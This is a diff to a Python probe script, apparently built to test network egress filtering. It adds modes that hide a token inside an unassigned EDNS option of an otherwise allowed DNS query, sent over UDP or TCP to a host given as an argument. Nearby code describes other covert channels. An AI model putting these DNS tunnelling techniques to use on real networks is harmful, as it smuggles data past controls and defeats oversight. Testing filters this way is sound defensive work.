@@ -96,6 +96,11 @@ def question(name, qtype, ident=None):
     return q + b"\0" + struct.pack("!HH", qtype, 1)
 
 
+def optioned(name):
+    q = question(name, 1)
+    return q[:11] + b"\1" + q[12:] + b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 4 + len(TOKEN), 65001, len(TOKEN)) + TOKEN.encode()
+
+
 def spliced(fd, good, evil):
     """Send octets that look good, and are others by the time that somebody receives them: pages that the socket shares."""
     import ctypes
@@ -179,6 +184,15 @@ def main():
     elif MODE == "dns-tail":  # an allowed question with a token behind it
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.sendto(question(ARGS[1], 1) + TOKEN.encode(), (ARGS[0], 53))
+    elif MODE == "dns-opt":  # an allowed question with a token in an option that nobody knows
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(optioned(ARGS[1]), (ARGS[0], 53))
+    elif MODE == "dns-tcp-opt":
+        s = dial(ARGS[0], 53)
+        q = optioned(ARGS[1])
+        s.sendall(struct.pack("!H", len(q)) + q)
+        s.recv(2000)
+        s.recv(2000)
     elif MODE == "dns-tcp":
         s = dial(ARGS[0], 53)
         q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
